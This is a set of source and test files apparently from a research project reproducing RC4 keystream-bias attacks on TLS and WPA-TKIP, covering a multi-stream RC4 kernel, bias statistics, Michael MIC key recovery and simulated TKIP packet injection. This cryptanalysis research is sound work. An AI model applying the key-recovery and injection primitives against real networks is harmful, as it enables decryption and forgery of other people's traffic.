// KSA (which dominates for short-keystream datasets: 256 swaps per key vs.
// 16..257 output bytes). Each stream's byte sequence is bit-identical to a
// scalar Rc4 over the same key; the kernel only changes the schedule, never
// the math. tests/rc4/rc4_multi_test.cc pins this for every supported M.
//
// This is the hot-path kernel under src/engine/keystream_engine.cc; the
// engine dispatches on the runtime-selected width (EngineOptions::interleave)
// and falls back to scalar Rc4 for tail groups smaller than M.
#ifndef SRC_RC4_RC4_MULTI_H_
#define SRC_RC4_RC4_MULTI_H_

#include <array>
#include <cassert>
#include <cstdint>
#include <numeric>
#include <span>

namespace rc4b {

// M independent RC4 instances in lockstep. M is a compile-time width so the
// per-byte round-robin loop fully unrolls; supported widths are enumerated in
// kInterleaveWidths below and runtime dispatch lives with the caller.
template <size_t M>
class Rc4MultiStream {
 public:
  static constexpr size_t kStreams = M;

  // Runs M interleaved KSAs. `keys` holds the M keys back to back, each
  // exactly `key_size` (1..256) bytes: stream m's key is
  // keys[m * key_size, (m + 1) * key_size).
  Rc4MultiStream(std::span<const uint8_t> keys, size_t key_size) {
    assert(key_size >= 1 && key_size <= 256);
    assert(keys.size() == M * key_size);
    for (size_t m = 0; m < M; ++m) {
      std::iota(s_[m].begin(), s_[m].end(), uint8_t{0});
    }
    std::array<uint8_t, M> j{};
    for (size_t i = 0; i < 256; ++i) {
      // The key index is shared by all streams, which keeps the inner loop
      // free of per-stream control flow.
      const uint8_t* key_column = keys.data() + i % key_size;
      for (size_t m = 0; m < M; ++m) {
        auto& s = s_[m];
        j[m] = static_cast<uint8_t>(j[m] + s[i] + key_column[m * key_size]);
        const uint8_t si = s[i];
        s[i] = s[j[m]];
        s[j[m]] = si;
      }
    }
  }

  // Generates `length` keystream bytes per stream: stream m's byte t is
  // written to out[m * stride + t] (stride >= length), i.e. M rows of a
  // row-major buffer when stride == row length. Byte t of stream m equals
  // byte t of a scalar Rc4 over the same key and prior Skip()s.
  void Keystream(uint8_t* out, size_t length, size_t stride) {
    assert(stride >= length);
    Generate<true>(out, length, stride);
  }

  // Discards `n` bytes from every stream (engine-level drop / RC4-drop[n]).
  void Skip(uint64_t n) { Generate<false>(nullptr, n, 0); }

 private:
  template <bool kEmit>
  void Generate(uint8_t* out, uint64_t length, size_t stride) {
    // i is identical across streams (it never depends on key or state), so
    // one counter serves all M; only j and S are per stream.
    uint8_t i = i_;
    std::array<uint8_t, M> j = j_;
    for (uint64_t t = 0; t < length; ++t) {
      i = static_cast<uint8_t>(i + 1);
      for (size_t m = 0; m < M; ++m) {
        auto& s = s_[m];
        j[m] = static_cast<uint8_t>(j[m] + s[i]);
        const uint8_t si = s[i];
        s[i] = s[j[m]];
        s[j[m]] = si;
        if constexpr (kEmit) {
          out[m * stride + t] = s[static_cast<uint8_t>(s[i] + s[j[m]])];
        }
      }
    }
    i_ = i;
    j_ = j;
  }

  alignas(64) std::array<std::array<uint8_t, 256>, M> s_;
  std::array<uint8_t, M> j_{};
  uint8_t i_ = 0;
};

// Widths the engine can dispatch to (1 = scalar Rc4). Powers of two keep the
// default batch_keys (256) an exact multiple, so batches have no scalar tail.
// 64 exists as the scalar twin of the AVX-512 kernel's lane count, so an
// explicit --interleave=64 stays runnable when that kernel is unavailable.
inline constexpr size_t kInterleaveWidths[] = {1, 2, 4, 8, 16, 32, 64};

// Auto width (EngineOptions::interleave == 0). Tuned with the
// bench_throughput BM_Rc4Multi* sweep and bench_engine_sharded: 8 streams
// roughly double generation throughput on the cores we measured, while 16+
// starts spilling j/S accesses; re-tune per deployment with --interleave.
inline constexpr size_t kDefaultInterleave = 8;

// Maps a requested interleave width to a supported one: 0 selects
// kDefaultInterleave, anything else rounds down to the nearest entry of
// kInterleaveWidths (so e.g. 12 -> 8, 100 -> 32).
size_t ResolveInterleave(size_t requested);

}  // namespace rc4b

#endif  // SRC_RC4_RC4_MULTI_H_
