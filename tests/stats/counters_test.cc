#include "src/stats/counters.h"

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(SingleByteGridTest, AddAndCount) {
  SingleByteGrid grid(4);
  grid.Add(0, 7);
  grid.Add(0, 7);
  grid.Add(3, 255, 5);
  EXPECT_EQ(grid.Count(0, 7), 2u);
  EXPECT_EQ(grid.Count(3, 255), 5u);
  EXPECT_EQ(grid.Count(1, 7), 0u);
}

TEST(SingleByteGridTest, MergeAddsCountsAndKeys) {
  SingleByteGrid a(2), b(2);
  a.Add(0, 1, 3);
  a.AddKeys(10);
  b.Add(0, 1, 4);
  b.Add(1, 2, 1);
  b.AddKeys(20);
  a.Merge(b);
  EXPECT_EQ(a.Count(0, 1), 7u);
  EXPECT_EQ(a.Count(1, 2), 1u);
  EXPECT_EQ(a.keys(), 30u);
}

TEST(SingleByteGridTest, ProbabilityNormalizesByKeys) {
  SingleByteGrid grid(1);
  grid.Add(0, 0, 50);
  grid.AddKeys(200);
  EXPECT_DOUBLE_EQ(grid.Probability(0, 0), 0.25);
}

TEST(DigraphGridTest, AddAndRow) {
  DigraphGrid grid(2);
  grid.Add(1, 3, 4, 6);
  EXPECT_EQ(grid.Count(1, 3, 4), 6u);
  EXPECT_EQ(grid.Row(1)[3 * 256 + 4], 6u);
  EXPECT_EQ(grid.Count(0, 3, 4), 0u);
}

TEST(DigraphGridTest, MarginalsSumCorrectly) {
  DigraphGrid grid(1);
  grid.Add(0, 10, 0, 3);
  grid.Add(0, 10, 200, 7);
  grid.Add(0, 99, 200, 10);
  grid.AddKeys(100);
  EXPECT_DOUBLE_EQ(grid.MarginalFirst(0, 10), 0.10);
  EXPECT_DOUBLE_EQ(grid.MarginalSecond(0, 200), 0.17);
  EXPECT_DOUBLE_EQ(grid.MarginalSecond(0, 0), 0.03);
}

TEST(DigraphGridTest, MergeConsistent) {
  DigraphGrid a(1), b(1);
  a.Add(0, 1, 2, 5);
  a.AddKeys(5);
  b.Add(0, 1, 2, 2);
  b.AddKeys(2);
  a.Merge(b);
  EXPECT_EQ(a.Count(0, 1, 2), 7u);
  EXPECT_EQ(a.keys(), 7u);
}

TEST(WorkerTileTest, FlushAddsAndZeroes) {
  WorkerTile tile(8);
  tile.Add(3);
  tile.Add(3);
  tile.Add(5);
  std::vector<uint64_t> out(8, 100);
  tile.FlushInto(out);
  EXPECT_EQ(out[3], 102u);
  EXPECT_EQ(out[5], 101u);
  EXPECT_EQ(out[0], 100u);
  // Second flush adds nothing: the tile was reset.
  tile.FlushInto(out);
  EXPECT_EQ(out[3], 102u);
}

TEST(WorkerTileTest, ManyIncrementsBelowCap) {
  WorkerTile tile(1);
  for (int i = 0; i < 60000; ++i) {
    tile.Add(0);
  }
  std::vector<uint64_t> out(1, 0);
  tile.FlushInto(out);
  EXPECT_EQ(out[0], 60000u);
}

}  // namespace
}  // namespace rc4b
