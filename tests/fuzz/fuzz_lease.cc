// Fuzz target: the lease-file parser (src/orchestrate/lease.cc). A lease
// file is the mutual-exclusion token of the campaign: a stealer decides
// ownership from whatever bytes a possibly-crashed writer left behind, so
// arbitrary input must produce a clean parse error or a lease whose
// canonical re-serialization round-trips exactly — never a half-parsed
// lease that grants ownership.
#include <cstdint>
#include <cstdlib>
#include <string_view>

#include "src/orchestrate/lease.h"

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const std::string_view text(reinterpret_cast<const char*>(data), size);
  rc4b::orchestrate::Lease lease;
  if (!rc4b::orchestrate::ParseLease(text, "fuzz", &lease).ok()) {
    return 0;
  }
  // Whatever parses must survive the canonical round trip unchanged: the
  // renew/steal path rewrites leases via FormatLease, and a lossy round
  // trip would corrupt ownership on the first heartbeat.
  rc4b::orchestrate::Lease again;
  if (!rc4b::orchestrate::ParseLease(rc4b::orchestrate::FormatLease(lease),
                                     "fuzz-roundtrip", &again)
           .ok()) {
    std::abort();  // parser accepted a lease its own serialization rejects
  }
  if (again.owner != lease.owner || again.acquired_ms != lease.acquired_ms ||
      again.heartbeat_ms != lease.heartbeat_ms ||
      again.attempt != lease.attempt) {
    std::abort();  // round trip changed the lease
  }
  return 0;
}
