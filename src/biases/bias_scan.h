// Automated bias detection over generated datasets — the pipeline of
// Sect. 3.1/3.3 of the paper:
//   1. per-position chi-squared tests reject "Z_r is uniform",
//   2. per-position Fuchs–Kenett M-tests reject "Z_a and Z_b are independent"
//      (testing independence, not pair-uniformity, so single-byte biases do
//      not masquerade as pair biases),
//   3. per-cell proportion tests pinpoint which value pairs deviate, and
//   4. Holm's method controls the family-wise error rate at alpha = 1e-4.
// Reported pair strengths are *relative* biases q from s = p (1 + q), where p
// is the product of the single-byte marginals (the paper's Fig. 4/5 metric).
#ifndef SRC_BIASES_BIAS_SCAN_H_
#define SRC_BIASES_BIAS_SCAN_H_

#include <cstdint>
#include <vector>

#include "src/engine/keystream_engine.h"
#include "src/stats/counters.h"

namespace rc4b {

// The paper rejects null hypotheses at this significance level.
inline constexpr double kPaperAlpha = 1e-4;

struct SingleByteScanResult {
  size_t position = 0;      // 1-based keystream position
  double statistic = 0.0;   // chi-squared
  double p_value = 1.0;     // raw
  double p_adjusted = 1.0;  // Holm-adjusted across all scanned positions
  bool biased = false;
};

// Tests every position of the grid for uniformity.
std::vector<SingleByteScanResult> ScanSingleBytes(const SingleByteGrid& grid,
                                                  double alpha = kPaperAlpha);

struct PairDependence {
  size_t row = 0;            // grid row (position or pair index)
  double m_statistic = 0.0;  // Fuchs–Kenett M
  double p_value = 1.0;
  double p_adjusted = 1.0;
  bool dependent = false;
};

// Tests each grid row for dependence between the two bytes.
std::vector<PairDependence> ScanPairDependence(const DigraphGrid& grid,
                                               double alpha = kPaperAlpha);

struct BiasedCell {
  uint8_t v1 = 0;
  uint8_t v2 = 0;
  double pair_probability = 0.0;      // s
  double expected_probability = 0.0;  // p = marginal1 * marginal2
  double relative_bias = 0.0;         // q with s = p (1 + q)
  double p_value = 1.0;               // proportion test, Holm-adjusted
};

// For one grid row, runs proportion tests of every cell against the
// independence expectation and returns the cells that survive Holm at
// `alpha`, ordered by |relative_bias| descending.
std::vector<BiasedCell> FindBiasedCells(const DigraphGrid& grid, size_t row,
                                        double alpha = kPaperAlpha);

// Relative bias of a single cell against the independence expectation
// (no testing); the quantity plotted in Fig. 4 and Fig. 5.
double RelativeBias(const DigraphGrid& grid, size_t row, uint8_t v1, uint8_t v2);

// One-shot engine-backed scans: generate the statistics through the sharded
// keystream engine (src/engine/) and run the corresponding test battery.
// Results are bit-identical for any options.workers.
std::vector<SingleByteScanResult> ScanSingleBytesWithEngine(
    size_t positions, const EngineOptions& options, double alpha = kPaperAlpha);
std::vector<PairDependence> ScanConsecutiveDigraphsWithEngine(
    size_t positions, const EngineOptions& options, double alpha = kPaperAlpha);

}  // namespace rc4b

#endif  // SRC_BIASES_BIAS_SCAN_H_
