// Tiny command-line flag parser for example binaries and benchmark harnesses.
// Supports --name=value and --name value forms plus --help text generation.
#ifndef SRC_COMMON_FLAGS_H_
#define SRC_COMMON_FLAGS_H_

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace rc4b {

class FlagSet {
 public:
  explicit FlagSet(std::string program_description)
      : description_(std::move(program_description)) {}

  // Registers a flag with a default. Returns *this for chaining.
  FlagSet& Define(const std::string& name, const std::string& default_value,
                  const std::string& help);

  // Parses argv. On "--help" prints usage and returns false; the caller should
  // exit. Unknown flags abort with a message.
  bool Parse(int argc, char** argv);

  std::string GetString(const std::string& name) const;
  int64_t GetInt(const std::string& name) const;
  uint64_t GetUint(const std::string& name) const;
  double GetDouble(const std::string& name) const;
  bool GetBool(const std::string& name) const;

 private:
  struct Flag {
    std::string value;
    std::string help;
  };

  void PrintUsage() const;

  std::string description_;
  std::map<std::string, Flag> flags_;
};

// Shared scale/parallelism flag conventions of the bench and example
// binaries: a count flag (--keys for dataset generators, --sims for
// Monte-Carlo harnesses, --trials for scenario runs), a worker-count flag
// (--workers, or --threads where the binary sweeps worker counts itself),
// --seed, --interleave (EngineOptions::interleave: RC4 streams generated
// in lockstep, 0 = auto, 1 = scalar), and --kernel (EngineOptions::kernel:
// lane-kernel name from src/rc4/kernel_registry.h, "" = auto) — results are
// bit-identical for any width and kernel, so both are purely perf knobs;
// binaries that never touch the keystream engine accept and ignore them for
// flag uniformity).
// bench/harness.h shares the printing; these helpers share the parsing, so
// every binary spells the common knobs the same way.
struct ScaleFlagSpec {
  std::string count_flag = "keys";
  std::string count_default;
  std::string count_help;
  std::string workers_flag = "workers";
  std::string workers_help = "worker threads (0 = all cores)";
  std::string seed_default = "1";
  std::string seed_help = "simulation seed";
};

struct ScaleFlagValues {
  uint64_t count = 0;
  unsigned workers = 0;
  uint64_t seed = 0;
  size_t interleave = 0;
  std::string kernel;
};

// Registers the spec's five flags on `flags`; returns `flags` for chaining
// additional binary-specific Define calls.
FlagSet& DefineScaleFlags(FlagSet& flags, const ScaleFlagSpec& spec);

// Reads the five values back after Parse().
ScaleFlagValues GetScaleFlags(const FlagSet& flags, const ScaleFlagSpec& spec);

}  // namespace rc4b

#endif  // SRC_COMMON_FLAGS_H_
