#include "src/crypto/michael.h"

#include <gtest/gtest.h>

#include "src/common/bytes.h"
#include "src/common/rng.h"

namespace rc4b {
namespace {

// IEEE 802.11 Michael test vectors (the chained table from the standard's
// annex: each row's key is the previous row's MIC).
struct ChainedVector {
  const char* key_hex;
  const char* message;
  const char* mic_hex;
};

constexpr ChainedVector kChain[] = {
    {"0000000000000000", "", "82925c1ca1d130b8"},
    {"82925c1ca1d130b8", "M", "434721ca40639b3f"},
    {"434721ca40639b3f", "Mi", "e8f9becae97e5d29"},
    {"e8f9becae97e5d29", "Mic", "90038fc6cf13c1db"},
    {"90038fc6cf13c1db", "Mich", "d55e100510128986"},
    {"d55e100510128986", "Michael", "0a942b124ecaa546"},
};

class MichaelChainTest : public ::testing::TestWithParam<ChainedVector> {};

TEST_P(MichaelChainTest, MatchesStandardVector) {
  const ChainedVector& v = GetParam();
  const MichaelKey key = MichaelKeyFromBytes(FromHex(v.key_hex));
  const auto mic = MichaelMic(key, FromString(v.message));
  EXPECT_EQ(ToHex(mic), v.mic_hex);
}

TEST_P(MichaelChainTest, KeyRecoveredFromMic) {
  const ChainedVector& v = GetParam();
  const MichaelKey key = MichaelKeyFromBytes(FromHex(v.key_hex));
  const Bytes message = FromString(v.message);
  const auto mic = MichaelMic(key, message);
  EXPECT_EQ(MichaelRecoverKey(message, mic), key);
}

INSTANTIATE_TEST_SUITE_P(StandardVectors, MichaelChainTest,
                         ::testing::ValuesIn(kChain));

TEST(MichaelTest, KeyBytesRoundTrip) {
  const Bytes raw = FromHex("0123456789abcdef");
  const MichaelKey key = MichaelKeyFromBytes(raw);
  const auto back = MichaelKeyToBytes(key);
  EXPECT_EQ(Bytes(back.begin(), back.end()), raw);
}

// Property: key recovery inverts the MIC for random keys and messages of
// every padding-relevant length. This is the Tews/Beck attack primitive the
// TKIP attack relies on (Sect. 5.3 of the paper).
class MichaelInversionTest : public ::testing::TestWithParam<size_t> {};

TEST_P(MichaelInversionTest, RecoverKeyIsExactInverse) {
  const size_t length = GetParam();
  Xoshiro256 rng(1000 + length);
  for (int trial = 0; trial < 50; ++trial) {
    MichaelKey key{static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng())};
    Bytes message(length);
    rng.Fill(message);
    const auto mic = MichaelMic(key, message);
    EXPECT_EQ(MichaelRecoverKey(message, mic), key);
  }
}

INSTANTIATE_TEST_SUITE_P(AllPaddings, MichaelInversionTest,
                         ::testing::Values(0, 1, 2, 3, 4, 5, 6, 7, 8, 63, 64, 65,
                                           1500));

TEST(MichaelTest, MicDependsOnEveryMessageByte) {
  Xoshiro256 rng(7);
  MichaelKey key{static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng())};
  Bytes message(32);
  rng.Fill(message);
  const auto baseline = MichaelMic(key, message);
  for (size_t i = 0; i < message.size(); ++i) {
    Bytes mutated = message;
    mutated[i] ^= 0x01;
    EXPECT_NE(ToHex(MichaelMic(key, mutated)), ToHex(baseline)) << "byte " << i;
  }
}

TEST(MichaelTest, HeaderLayout) {
  const Bytes da = FromHex("aabbccddeeff");
  const Bytes sa = FromHex("112233445566");
  const auto header = MichaelHeader(da, sa, 5);
  EXPECT_EQ(ToHex(header), "aabbccddeeff11223344556605000000");
}

}  // namespace
}  // namespace rc4b
