#include "src/tkip/injection.h"

#include <gtest/gtest.h>

#include "src/common/rng.h"
#include "src/net/packet.h"

namespace rc4b {
namespace {

TkipPeer TestPeer(uint64_t seed) {
  Xoshiro256 rng(seed);
  TkipPeer peer;
  rng.Fill(peer.tk);
  peer.mic_key = MichaelKey{static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng())};
  rng.Fill(peer.ta);
  rng.Fill(peer.da);
  rng.Fill(peer.sa);
  return peer;
}

Bytes InjectedPacket() {
  // The attack's packet: 48 header bytes + 7-byte payload (Sect. 5.2).
  Ipv4Header ip;
  ip.source = 0x0a000001;
  ip.destination = 0x0a000002;
  TcpHeader tcp;
  tcp.source_port = 80;
  tcp.destination_port = 51000;
  return BuildTcpPacket(LlcSnapHeader{}, ip, tcp, FromString("7bytes!"));
}

TEST(InjectionTest, TscIncrementsPerFrame) {
  TkipInjectionSource source(TestPeer(1), InjectedPacket(), 100);
  EXPECT_EQ(source.NextFrame().tsc, 100u);
  EXPECT_EQ(source.NextFrame().tsc, 101u);
  EXPECT_EQ(source.tsc(), 102u);
}

TEST(InjectionTest, FramesMatchDirectEncapsulation) {
  const TkipPeer peer = TestPeer(2);
  const Bytes msdu = InjectedPacket();
  TkipInjectionSource source(peer, msdu, 5000);
  for (int i = 0; i < 300; ++i) {
    const TkipFrame frame = source.NextFrame();
    const TkipFrame direct = TkipEncapsulate(peer, msdu, frame.tsc);
    ASSERT_EQ(frame.ciphertext, direct.ciphertext) << "tsc " << frame.tsc;
  }
}

TEST(InjectionTest, Phase1BoundaryCrossing) {
  // Frames across an IV32 rollover (tsc crossing a multiple of 65536) must
  // still match direct encapsulation, exercising the phase-1 cache.
  const TkipPeer peer = TestPeer(3);
  const Bytes msdu = InjectedPacket();
  TkipInjectionSource source(peer, msdu, 65530);
  for (int i = 0; i < 12; ++i) {
    const TkipFrame frame = source.NextFrame();
    EXPECT_EQ(frame.ciphertext, TkipEncapsulate(peer, msdu, frame.tsc).ciphertext);
  }
}

TEST(CaptureStatsTest, CountsAccumulatePerTsc1) {
  const TkipPeer peer = TestPeer(4);
  const Bytes msdu = InjectedPacket();
  TkipCaptureStats stats(56, 67);
  TkipInjectionSource source(peer, msdu, 0);
  const int frames = 1024;
  for (int i = 0; i < frames; ++i) {
    stats.AddFrame(source.NextFrame());
  }
  EXPECT_EQ(stats.frames(), static_cast<uint64_t>(frames));
  // TSCs 0..1023 => TSC1 in {0..3}, 256 frames each; every row sums to the
  // frame count of its class.
  for (int tsc1 = 0; tsc1 < 4; ++tsc1) {
    uint64_t row_total = 0;
    for (int c = 0; c < 256; ++c) {
      row_total += stats.Row(static_cast<uint8_t>(tsc1), 56)[c];
    }
    EXPECT_EQ(row_total, 256u) << "tsc1 " << tsc1;
  }
  // Classes never seen stay empty.
  uint64_t empty_total = 0;
  for (int c = 0; c < 256; ++c) {
    empty_total += stats.Row(200, 60)[c];
  }
  EXPECT_EQ(empty_total, 0u);
}

TEST(CaptureStatsTest, MergeAddsCounts) {
  const TkipPeer peer = TestPeer(5);
  const Bytes msdu = InjectedPacket();
  TkipCaptureStats a(56, 67), b(56, 67);
  TkipInjectionSource source(peer, msdu, 0);
  for (int i = 0; i < 100; ++i) {
    a.AddFrame(source.NextFrame());
  }
  for (int i = 0; i < 50; ++i) {
    b.AddFrame(source.NextFrame());
  }
  a.Merge(b);
  EXPECT_EQ(a.frames(), 150u);
}

TEST(CaptureStatsTest, PositionsAreOneBased) {
  const TkipPeer peer = TestPeer(6);
  const Bytes msdu = InjectedPacket();
  TkipCaptureStats stats(1, 4);
  TkipInjectionSource source(peer, msdu, 0);
  const TkipFrame frame = source.NextFrame();
  stats.AddFrame(frame);
  // Position 1 is ciphertext[0].
  EXPECT_EQ(stats.Row(static_cast<uint8_t>(frame.tsc >> 8), 1)[frame.ciphertext[0]],
            1u);
}

}  // namespace
}  // namespace rc4b
