#!/usr/bin/env python3
"""Determinism lint for the bit-exactness-critical directories.

The engine/sim/store/recovery stack promises bit-identical results for any
worker count, interleave width, kernel, shard split, or kill/resume schedule
(see docs/engine.md and docs/store.md). That contract dies quietly the moment
a source file reaches for ambient nondeterminism, so this lint bans it at
review time instead of debugging it at merge time:

  rand              libc rand() — global hidden state, seeding unclear
  srand             seeding the banned libc generator
  time              time() — wall-clock input to any computation
  wall-clock        system_clock / gettimeofday / clock_gettime / localtime /
                    gmtime — timestamps vary per run and per host
  random-device     std::random_device — explicitly nondeterministic
  unseeded-rng      constructing a std RNG engine without an explicit seed
  unordered-iteration  range-for over a std::unordered_{map,set} variable —
                    iteration order is libc++/libstdc++- and salt-dependent,
                    so any counter or output fed from it diverges across
                    builds

Intentional exceptions carry a justification on the flagged line (or the line
above):

    const auto deadline = now();  // lint:allow(wall-clock) progress UI only

Exit status: 0 clean, 1 violations, 2 usage error. Run with no arguments from
the repo root to lint the default directories; pass explicit files (the
self-test does) to lint just those.
"""

import os
import re
import sys

DEFAULT_DIRS = ("src/engine", "src/sim", "src/store", "src/recovery",
                "src/orchestrate")
SOURCE_EXTENSIONS = (".h", ".cc")

ALLOW_RE = re.compile(r"//\s*lint:allow\(([a-z-]+(?:\s*,\s*[a-z-]+)*)\)")

# (rule, regex, message). Patterns run on comment-stripped lines.
LINE_RULES = (
    ("rand", re.compile(r"(?<![\w:.])rand\s*\("),
     "libc rand() is banned: hidden global state, unspecified sequence"),
    ("srand", re.compile(r"(?<![\w:.])srand\s*\("),
     "srand() seeds the banned libc generator"),
    ("time", re.compile(r"(?<![\w:.])time\s*\("),
     "time() feeds wall-clock into the computation"),
    ("wall-clock",
     re.compile(r"system_clock|gettimeofday|clock_gettime|"
                r"(?<![\w:.])(?:localtime|gmtime)\s*\("),
     "wall-clock reads vary per run/host; derive everything from the seed "
     "(steady_clock is fine for measuring durations)"),
    ("random-device", re.compile(r"std::random_device"),
     "std::random_device is nondeterministic by definition"),
    ("unseeded-rng",
     re.compile(r"std::(?:mt19937(?:_64)?|minstd_rand0?|default_random_engine|"
                r"ranlux(?:24|48)(?:_base)?|knuth_b)\s+\w+\s*(?:;|\{\s*\})"),
     "std RNG engine constructed without an explicit seed"),
)

UNORDERED_DECL_RE = re.compile(
    r"std::unordered_(?:map|set|multimap|multiset)\s*<[^;]*?>\s+(\w+)")
RANGE_FOR_RE = re.compile(r"for\s*\([^;:)]*:\s*(\w+)\s*\)")


def strip_comments_and_strings(line):
    """Blanks string/char literals and // comments so rules match only code.

    Keeps column positions stable (replacement preserves length). Block
    comments are not handled line-spanningly; repo style is // comments.
    """
    out = []
    i, n = 0, len(line)
    while i < n:
        ch = line[i]
        if ch == "/" and i + 1 < n and line[i + 1] == "/":
            break
        if ch in "\"'":
            quote = ch
            out.append(" ")
            i += 1
            while i < n and line[i] != quote:
                step = 2 if line[i] == "\\" else 1
                out.append(" " * min(step, n - i))
                i += step
            if i < n:
                out.append(" ")
                i += 1
            continue
        out.append(ch)
        i += 1
    return "".join(out)


def allowed_rules(raw_lines, index):
    """Rules suppressed on line `index` via lint:allow on it or the line above."""
    rules = set()
    for look in (index, index - 1):
        if look < 0:
            continue
        match = ALLOW_RE.search(raw_lines[look])
        if match:
            rules.update(r.strip() for r in match.group(1).split(","))
    return rules


def lint_file(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            raw_lines = handle.read().splitlines()
    except OSError as error:
        return [(path, 0, "io", str(error))]

    violations = []
    code_lines = [strip_comments_and_strings(line) for line in raw_lines]

    unordered_vars = set()
    for code in code_lines:
        for match in UNORDERED_DECL_RE.finditer(code):
            unordered_vars.add(match.group(1))

    for index, code in enumerate(code_lines):
        allowed = allowed_rules(raw_lines, index)
        for rule, pattern, message in LINE_RULES:
            if pattern.search(code) and rule not in allowed:
                violations.append((path, index + 1, rule, message))
        if "unordered-iteration" not in allowed:
            for match in RANGE_FOR_RE.finditer(code):
                if match.group(1) in unordered_vars:
                    violations.append(
                        (path, index + 1, "unordered-iteration",
                         "iterating a std::unordered_* container; order is "
                         "implementation-dependent — sort keys first if the "
                         "result feeds counters or output"))
    return violations


def collect_targets(arguments, root):
    if arguments:
        return arguments
    targets = []
    for directory in DEFAULT_DIRS:
        base = os.path.join(root, directory)
        if not os.path.isdir(base):
            print(f"lint_invariants: missing directory {base}", file=sys.stderr)
            sys.exit(2)
        for dirpath, _, filenames in os.walk(base):
            for name in sorted(filenames):
                if name.endswith(SOURCE_EXTENSIONS):
                    targets.append(os.path.join(dirpath, name))
    return sorted(targets)


def main(argv):
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    targets = collect_targets(argv[1:], root)
    violations = []
    for path in targets:
        violations.extend(lint_file(path))
    for path, line, rule, message in violations:
        print(f"{path}:{line}: [{rule}] {message}")
    if violations:
        print(f"lint_invariants: {len(violations)} violation(s) in "
              f"{len(targets)} file(s); suppress intentional ones with "
              f"// lint:allow(<rule>)", file=sys.stderr)
        return 1
    print(f"lint_invariants: {len(targets)} file(s) clean")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
