#include "src/store/manifest.h"

#include <cstdio>
#include <string>

#include <gtest/gtest.h>

namespace rc4b::store {
namespace {

std::string TempPath(const char* name) {
  return std::string(::testing::TempDir()) + "/" + name;
}

GridMeta PairMeta() {
  GridMeta grid;
  grid.kind = GridKind::kPair;
  grid.seed = 3;
  grid.key_begin = 0;
  grid.key_end = 1000;
  grid.pairs = {{1, 2}, {1, 257}};
  grid.rows = 2;
  return grid;
}

TEST(ManifestTest, PlanShardsTilesTheRangeExactly) {
  GridMeta grid = PairMeta();
  const Manifest manifest = PlanShards(grid, 3, "out/pair");
  ASSERT_EQ(manifest.shards.size(), 3u);
  EXPECT_EQ(manifest.shards[0].path, "out/pair-shard0.grid");
  uint64_t covered = 0;
  uint64_t next = grid.key_begin;
  for (const ShardEntry& shard : manifest.shards) {
    EXPECT_EQ(shard.key_begin, next);
    next = shard.key_end;
    covered += shard.key_end - shard.key_begin;
  }
  EXPECT_EQ(next, grid.key_end);
  EXPECT_EQ(covered, grid.keys());
  EXPECT_TRUE(ValidateManifest(manifest, "plan").ok());
}

TEST(ManifestTest, ValidateRejectsGapsAndOverlaps) {
  Manifest manifest = PlanShards(PairMeta(), 2, "p");
  manifest.shards[1].key_begin += 1;  // gap
  IoStatus status = ValidateManifest(manifest, "ctx");
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("gap"), std::string::npos);

  manifest = PlanShards(PairMeta(), 2, "p");
  manifest.shards[1].key_begin -= 1;  // overlap
  status = ValidateManifest(manifest, "ctx");
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("overlap"), std::string::npos);
}

TEST(ManifestTest, WriteReadRoundTrip) {
  const std::string path = TempPath("roundtrip.manifest");
  const Manifest manifest = PlanShards(PairMeta(), 4, "pair");
  ASSERT_TRUE(WriteManifest(path, manifest).ok());

  Manifest loaded;
  ASSERT_TRUE(ReadManifest(path, &loaded).ok());
  EXPECT_EQ(loaded.grid, manifest.grid);
  ASSERT_EQ(loaded.shards.size(), manifest.shards.size());
  for (size_t i = 0; i < manifest.shards.size(); ++i) {
    EXPECT_EQ(loaded.shards[i].key_begin, manifest.shards[i].key_begin);
    EXPECT_EQ(loaded.shards[i].key_end, manifest.shards[i].key_end);
    EXPECT_EQ(loaded.shards[i].path, manifest.shards[i].path);
  }
  std::remove(path.c_str());
}

TEST(ManifestTest, ReadRejectsUnknownKeywordWithLineNumber) {
  const std::string path = TempPath("unknown.manifest");
  ASSERT_TRUE(WriteFileAtomic(path,
                              "rc4b-grid-manifest 1\n"
                              "kind singlebyte\n"
                              "banana 7\n")
                  .ok());
  Manifest loaded;
  const IoStatus status = ReadManifest(path, &loaded);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("banana"), std::string::npos);
  EXPECT_NE(status.message().find(path + ":3"), std::string::npos);
  std::remove(path.c_str());
}

TEST(ManifestTest, ReadRejectsWrongHeader) {
  const std::string path = TempPath("header.manifest");
  ASSERT_TRUE(WriteFileAtomic(path, "some-other-format 9\n").ok());
  Manifest loaded;
  const IoStatus status = ReadManifest(path, &loaded);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find(path), std::string::npos);
  std::remove(path.c_str());
}

TEST(ManifestTest, ResolvesShardPathsAgainstManifestDirectory) {
  EXPECT_EQ(ResolveManifestPath("/data/run/grid.manifest", "s0.grid"),
            "/data/run/s0.grid");
  EXPECT_EQ(ResolveManifestPath("grid.manifest", "s0.grid"), "s0.grid");
  EXPECT_EQ(ResolveManifestPath("/data/run/grid.manifest", "/abs/s0.grid"),
            "/abs/s0.grid");
}

TEST(ManifestTest, CheckpointPathAppendsSuffix) {
  EXPECT_EQ(CheckpointPath("a/b.grid"), "a/b.grid.ckpt");
}

}  // namespace
}  // namespace rc4b::store
