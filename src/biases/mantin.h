// Mantin's long-term ABSAB digraph-repetition bias (Sect. 2.1.2, formula 1):
// a digraph (Z_r, Z_{r+1}) tends to reappear g+2 positions later, i.e.
//   Pr[(Z_r, Z_{r+1}) = (Z_{r+g+2}, Z_{r+g+3})] = 2^-16 (1 + 2^-8 e^{(-4-8g)/256}).
//
// The TLS attack turns this into a likelihood over the XOR-differential
// between unknown plaintext and injected known plaintext (Sect. 4.2).
#ifndef SRC_BIASES_MANTIN_H_
#define SRC_BIASES_MANTIN_H_

#include <cstdint>

namespace rc4b {

// Probability alpha(g) that the ciphertext differential equals the plaintext
// differential for gap g (formula 18/19).
